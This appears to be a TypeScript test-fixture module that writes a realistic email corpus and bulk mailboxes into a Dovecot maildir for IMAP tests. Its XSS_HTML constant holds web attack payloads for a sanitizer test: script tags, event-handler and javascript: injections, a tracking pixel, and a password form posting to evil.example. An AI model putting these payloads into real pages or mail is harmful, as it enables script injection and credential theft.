// Mail for IMAP tests, written into a rig user's maildir: a realistic corpus whose manifest says
// what each message is, and bulk mailboxes of any size. Messages are composed by nodemailer's
// MailComposer, never hand-built.
import { createHash, randomBytes } from "node:crypto";
import MailComposer from "nodemailer/lib/mail-composer";
import type Mail from "nodemailer/lib/mailer";
import { writeMaildirMessages, type DovecotRig, type MaildirMessage } from "./dovecot-rig.js";

export type CorpusKey =
  | "plain-text"
  | "alternative"
  | "html-only"
  | "attachments"
  | "big-attachment"
  | "inline-image"
  | "non-ascii"
  | "xss"
  | "thread-start"
  | "thread-reply"
  | "thread-answer"
  | "sent"
  | "draft"
  | "trashed"
  | "custom-folder";

export interface CorpusAddress {
  name: string;
  address: string;
}

export interface CorpusAttachment {
  filename: string;
  contentType: string;
  /** Decoded bytes. */
  size: number;
  /** sha256 of the decoded bytes, hex. */
  sha256: string;
  /** Shown in the HTML through cid: rather than attached. */
  inline: boolean;
}

export interface CorpusMessage {
  key: CorpusKey;
  /** In angle brackets, as in the header. */
  messageId: string;
  subject: string;
  folder: string;
  seen: boolean;
  flagged: boolean;
  /** The Date header. */
  date: Date;
  /** INTERNALDATE. */
  receivedAt: Date;
  from: CorpusAddress;
  to: CorpusAddress[];
  cc: CorpusAddress[];
  text?: string;
  html?: string;
  attachments: CorpusAttachment[];
  inReplyTo?: string;
  references: string[];
  /** Bytes of the raw message as written. */
  size: number;
}

export interface CorpusManifest {
  address: string;
  /** Oldest first. */
  messages: CorpusMessage[];
  /** Every folder that holds corpus mail. */
  folders: string[];
}

/** The folder that is neither INBOX nor special-use, to test what include_folders leaves out. */
export const CORPUS_CUSTOM_FOLDER = "Receipts";
export const BIG_ATTACHMENT_BYTES = 9 * 1024 * 1024;

/** The HTML of the "xss" message: each thing a sanitizer must remove or neutralize. */
export const XSS_HTML = [
  "<p>Hello <b>friend</b>, please review.</p>",
  "<script>alert('script')</script>",
  '<img src="x" onerror="alert(\'onerror\')">',
  "<a href=\"javascript:alert('link')\">Click me</a>",
  '<a href="https://example.com/safe">Safe link</a>',
  '<img src="https://tracker.example/pixel.gif?u=42" width="1" height="1" alt="">',
  "<div style=\"width: expression(alert('style')); background: url('javascript:alert(1)')\">styled</div>",
  '<svg onload="alert(\'svg\')"><circle r="1"></circle></svg>',
  '<iframe src="https://evil.example/frame"></iframe>',
  '<form action="https://evil.example/steal"><input name="password"></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<object data="https://evil.example/x.swf"></object>',
  "<p onclick=\"alert('click')\">Click this paragraph</p>",
].join("\n");

const NON_ASCII_SUBJECT = "Café crème & 日本語のテスト 🎉 Größe";
const NON_ASCII_TEXT =
  "Voilà : déjà vu, naïve façade.\n中文测试，日本語のテキスト，한국어.\nEmoji: 🎉🚀✉️ and ß, Ø, Ž.";

/** Writes the corpus into the user's INBOX, Sent, Drafts, Trash and CORPUS_CUSTOM_FOLDER; the manifest says what each message is. */
export async function seedRealisticCorpus(rig: DovecotRig, address: string): Promise<CorpusManifest> {
  const me: CorpusAddress = { name: "Rig Owner", address };
  const bob: CorpusAddress = { name: "Bob Builder", address: "bob@rig.test" };
  const zoe: CorpusAddress = { name: "Zoë Müller-Łukasiewicz", address: "zoe@example.org" };
  const shop: CorpusAddress = { name: "Shop News", address: "news@shop.example" };
  const carol: CorpusAddress = { name: "Carol", address: "carol@rig.test" };
  const base = Date.UTC(2026, 0, 5, 9, 0, 0);
  const hours = (n: number) => new Date(base + n * 3_600_000);
  const id = (key: string) => `<corpus-${key}-${randomBytes(6).toString("hex")}@rig.test>`;
  const threadStart = id("thread-start");
  const threadReply = id("thread-reply");
  const threadAnswer = id("thread-answer");
  const pixelPng = randomBytes(2048);
  const reportPdf = randomBytes(20_000);
  const photo = randomBytes(150_000);
  const big = randomBytes(BIG_ATTACHMENT_BYTES);

  const specs: MessageSpec[] = [
    {
      key: "plain-text",
      folder: "INBOX",
      seen: true,
      date: hours(0),
      from: bob,
      to: [me],
      subject: "Lunch on Friday?",
      text: "Hi,\n\nShall we have lunch on Friday at noon?\n\nBob",
    },
    {
      key: "alternative",
      folder: "INBOX",
      seen: false,
      date: hours(1),
      from: shop,
      to: [me],
      subject: "Your weekly deals",
      text: "This week: 20% off everything.\nhttps://shop.example/deals",
      html: '<html><body><h1>This week</h1><p><b>20% off</b> <a href="https://shop.example/deals">everything</a>.</p></body></html>',
    },
    {
      key: "html-only",
      folder: "INBOX",
      seen: true,
      flagged: true,
      date: hours(2),
      from: carol,
      to: [me],
      cc: [bob],
      subject: "Agenda (HTML only)",
      html: "<p>Agenda:</p><ol><li>Budget</li><li>Hiring</li></ol>",
    },
    {
      key: "attachments",
      folder: "INBOX",
      seen: true,
      date: hours(3),
      from: bob,
      to: [me],
      subject: "Quarterly report attached",
      text: "Report and photo attached.",
      attachments: [
        { filename: "report.pdf", contentType: "application/pdf", content: reportPdf },
        { filename: "photo.jpg", contentType: "image/jpeg", content: photo },
      ],
    },
    {
      key: "big-attachment",
      folder: "INBOX",
      seen: false,
      date: hours(4),
      from: zoe,
      to: [me],
      subject: "The 9 MB dataset",
      text: "The dataset is attached (9 MB).",
      attachments: [{ filename: "dataset.bin", contentType: "application/octet-stream", content: big }],
    },
    {
      key: "inline-image",
      folder: "INBOX",
      seen: true,
      date: hours(5),
      from: carol,
      to: [me],
      subject: "Our new logo",
      text: "Our new logo is inline in the HTML version.",
      html: '<p>Our new logo:</p><img src="cid:logo@rig.test" alt="logo">',
      attachments: [{ filename: "logo.png", contentType: "image/png", content: pixelPng, cid: "logo@rig.test" }],
    },
    {
      key: "non-ascii",
      folder: "INBOX",
      seen: false,
      date: hours(6),
      from: zoe,
      to: [me],
      subject: NON_ASCII_SUBJECT,
      text: NON_ASCII_TEXT,
      html: `<p>${NON_ASCII_TEXT.replace(/\n/g, "<br>")}</p>`,
    },
    {
      key: "xss",
      folder: "INBOX",
      seen: false,
      date: hours(7),
      from: shop,
      to: [me],
      subject: "Important account notice",
      text: "Please review your account.",
      html: XSS_HTML,
    },
    {
      key: "thread-start",
      folder: "INBOX",
      seen: true,
      date: hours(8),
      from: bob,
      to: [me],
      cc: [carol],
      subject: "Project kickoff",
      text: "Kickoff is Monday. Who can join?",
      messageId: threadStart,
    },
    {
      key: "thread-reply",
      folder: "Sent",
      seen: true,
      date: hours(9),
      from: me,
      to: [bob],
      cc: [carol],
      subject: "Re: Project kickoff",
      text: "I can join.\n\n> Kickoff is Monday. Who can join?",
      messageId: threadReply,
      inReplyTo: threadStart,
      references: [threadStart],
    },
    {
      key: "thread-answer",
      folder: "INBOX",
      seen: false,
      date: hours(10),
      from: bob,
      to: [me],
      cc: [carol],
      subject: "Re: Project kickoff",
      text: "Great, see you Monday.",
      messageId: threadAnswer,
      inReplyTo: threadReply,
      references: [threadStart, threadReply],
    },
    {
      key: "sent",
      folder: "Sent",
      seen: true,
      date: hours(11),
      from: me,
      to: [zoe],
      subject: "Thanks for the dataset",
      text: "Got it, thanks!",
    },
    {
      key: "draft",
      folder: "Drafts",
      seen: true,
      date: hours(12),
      from: me,
      to: [carol],
      subject: "Draft: budget questions",
      text: "Unfinished draft about the budget.",
    },
    {
      key: "trashed",
      folder: "Trash",
      seen: true,
      date: hours(13),
      from: shop,
      to: [me],
      subject: "Old promotion",
      text: "This promotion has ended.",
    },
    {
      key: "custom-folder",
      folder: CORPUS_CUSTOM_FOLDER,
      seen: true,
      date: hours(14),
      from: shop,
      to: [me],
      subject: "Receipt #1042",
      text: "Thank you for your order #1042.",
    },
  ];

  const messages: CorpusMessage[] = [];
  const byFolder = new Map<string, MaildirMessage[]>();
  for (const spec of specs) {
    const messageId = spec.messageId ?? id(spec.key);
    const receivedAt = new Date(spec.date.getTime() + 30_000);
    const raw = await compose(spec, messageId);
    const folderMessages = byFolder.get(spec.folder) ?? [];
    folderMessages.push({ raw, seen: spec.seen, flagged: spec.flagged ?? false, receivedAt });
    byFolder.set(spec.folder, folderMessages);
    messages.push({
      key: spec.key,
      messageId,
      subject: spec.subject,
      folder: spec.folder,
      seen: spec.seen,
      flagged: spec.flagged ?? false,
      date: spec.date,
      receivedAt,
      from: spec.from,
      to: spec.to,
      cc: spec.cc ?? [],
      ...(spec.text === undefined ? {} : { text: spec.text }),
      ...(spec.html === undefined ? {} : { html: spec.html }),
      attachments: (spec.attachments ?? []).map((attachment) => ({
        filename: attachment.filename,
        contentType: attachment.contentType,
        size: attachment.content.length,
        sha256: createHash("sha256").update(attachment.content).digest("hex"),
        inline: attachment.cid !== undefined,
      })),
      ...(spec.inReplyTo === undefined ? {} : { inReplyTo: spec.inReplyTo }),
      references: spec.references ?? [],
      size: raw.length,
    });
  }
  for (const [folder, folderMessages] of byFolder) await writeMaildirMessages(rig, address, folder, folderMessages);
  return { address, messages, folders: [...byFolder.keys()] };
}

/** The corpus message with this key; throws when there is none. */
export function corpusMessage(manifest: CorpusManifest, key: CorpusKey): CorpusMessage {
  const message = manifest.messages.find((candidate) => candidate.key === key);
  if (!message) throw new Error(`the corpus has no message ${key}`);
  return message;
}

interface MessageSpec {
  key: CorpusKey;
  folder: string;
  seen: boolean;
  flagged?: boolean;
  date: Date;
  from: CorpusAddress;
  to: CorpusAddress[];
  cc?: CorpusAddress[];
  subject: string;
  text?: string;
  html?: string;
  attachments?: Array<{ filename: string; contentType: string; content: Buffer; cid?: string }>;
  messageId?: string;
  inReplyTo?: string;
  references?: string[];
}

async function compose(spec: MessageSpec, messageId: string): Promise<Buffer> {
  const options: Mail.Options = {
    from: spec.from,
    to: spec.to,
    cc: spec.cc ?? [],
    subject: spec.subject,
    messageId,
    date: spec.date,
    ...(spec.text === undefined ? {} : { text: spec.text }),
    ...(spec.html === undefined ? {} : { html: spec.html }),
    ...(spec.inReplyTo === undefined ? {} : { inReplyTo: spec.inReplyTo }),
    ...(spec.references === undefined ? {} : { references: spec.references }),
    attachments: (spec.attachments ?? []).map((attachment) => ({
      filename: attachment.filename,
      contentType: attachment.contentType,
      content: attachment.content,
      ...(attachment.cid === undefined ? {} : { cid: attachment.cid }),
    })),
  };
  return new MailComposer(options).compile().build();
}

export interface BulkOptions {
  /** Every n-th message (the first included) is unread; 10 when absent. */
  unreadEvery?: number;
  /** Senders in turn (message i is from senders[i % length]); five @bulk.example addresses when absent. */
  senders?: string[];
  /** The oldest message's date; the others follow a minute apart. 2025-01-01T00:00Z when absent. */
  startAt?: Date;
}

export interface BulkMessage {
  index: number;
  messageId: string;
  subject: string;
  from: string;
  /** Both the Date header and INTERNALDATE. */
  date: Date;
  seen: boolean;
}

export interface BulkManifest {
  count: number;
  unread: number;
  senders: string[];
  /** How many messages each sender sent. */
  bySender: Record<string, number>;
  /** Message `index` (0 is the oldest) as written. */
  messageAt(index: number): BulkMessage;
  /** The raw source of message `index` as written. */
  rawAt(index: number): string;
}

export const DEFAULT_BULK_SENDERS = [
  "alerts@bulk.example",
  "billing@bulk.example",
  "newsletter@bulk.example",
  "support@bulk.example",
  "team@bulk.example",
];

/**
 * Writes `count` plain-text messages into the user's INBOX: senders in turn, a known fraction
 * unread, dates a minute apart (oldest first). Prints nothing.
 */
export async function seedBulkMailbox(
  rig: DovecotRig,
  address: string,
  count: number,
  options: BulkOptions = {},
): Promise<BulkManifest> {
  if (!Number.isInteger(count) || count < 0)
    throw new Error(`seedBulkMailbox: count must be a whole number >= 0, not ${count}`);
  const unreadEvery = options.unreadEvery ?? 10;
  if (!Number.isInteger(unreadEvery) || unreadEvery < 1)
    throw new Error(`seedBulkMailbox: unreadEvery must be a whole number >= 1, not ${unreadEvery}`);
  const senders = options.senders ?? DEFAULT_BULK_SENDERS;
  if (senders.length === 0) throw new Error("seedBulkMailbox: senders must not be empty");
  const notAddress = senders.find((sender) => !/^[A-Za-z0-9._+-]+@[A-Za-z0-9.-]+$/.test(sender));
  if (notAddress !== undefined)
    throw new Error(
      `seedBulkMailbox: sender ${JSON.stringify(notAddress)} must be a bare ASCII address such as news@bulk.example`,
    );
  const startAt = (options.startAt ?? new Date(Date.UTC(2025, 0, 1))).getTime();
  const messageAt = (index: number): BulkMessage => {
    if (!Number.isInteger(index) || index < 0 || index >= count)
      throw new Error(`seedBulkMailbox: no message ${index} among ${count}`);
    const from = senders[index % senders.length] as string;
    return {
      index,
      messageId: `<bulk-${index}.${from}>`,
      subject: `Bulk message ${index} from ${from}`,
      from,
      date: new Date(startAt + index * 60_000),
      seen: index % unreadEvery !== 0,
    };
  };

  // MailComposer takes about 190 us a message (19 s for 100,000): each sender's message is composed
  // once with placeholders, which are then replaced by each message's values. The placeholders sit
  // in ASCII header values and an ASCII text part, which the composer writes verbatim.
  const templates = new Map<string, string[]>();
  for (const from of senders) {
    const raw = (
      await new MailComposer({
        from,
        to: address,
        subject: `Bulk message ${PLACEHOLDER.index} from ${from}`,
        messageId: `<bulk-${PLACEHOLDER.index}.${from}>`,
        date: TEMPLATE_DATE,
        text: `Message ${PLACEHOLDER.index} of a bulk mailbox, sent by ${from}.`,
      })
        .compile()
        .build()
    ).toString("utf8");
    const dateHeader = `Date: ${formatDateHeader(TEMPLATE_DATE)}`;
    if (!raw.includes(dateHeader))
      throw new Error("seedBulkMailbox: the composer wrote the Date header differently than expected");
    templates.set(from, raw.replace(dateHeader, `Date: ${PLACEHOLDER.date}`).split(PLACEHOLDER_PATTERN));
  }

  const rawAt = (index: number): string => {
    const message = messageAt(index);
    const values: Record<string, string> = {
      [PLACEHOLDER.index]: String(index),
      [PLACEHOLDER.date]: formatDateHeader(message.date),
    };
    return (templates.get(message.from) as string[]).map((part) => values[part] ?? part).join("");
  };

  const bySender: Record<string, number> = Object.fromEntries(senders.map((sender) => [sender, 0]));
  let unread = 0;
  const chunk = 5_000;
  for (let start = 0; start < count; start += chunk) {
    const messages: MaildirMessage[] = [];
    for (let index = start; index < Math.min(count, start + chunk); index += 1) {
      const message = messageAt(index);
      messages.push({ raw: rawAt(index), seen: message.seen, receivedAt: message.date });
      bySender[message.from] = (bySender[message.from] ?? 0) + 1;
      if (!message.seen) unread += 1;
    }
    await writeMaildirMessages(rig, address, "INBOX", messages);
  }
  return { count, unread, senders: [...senders], bySender, messageAt, rawAt };
}

const PLACEHOLDER = { index: "@@INDEX@@", date: "@@DATE@@" };
const PLACEHOLDER_PATTERN = /(@@INDEX@@|@@DATE@@)/;
const TEMPLATE_DATE = new Date(Date.UTC(2001, 1, 3, 4, 5, 6));

/** RFC 5322 date as nodemailer writes it (its mime-node: toUTCString with +0000). */
function formatDateHeader(date: Date): string {
  return date.toUTCString().replace(/GMT/, "+0000");
}
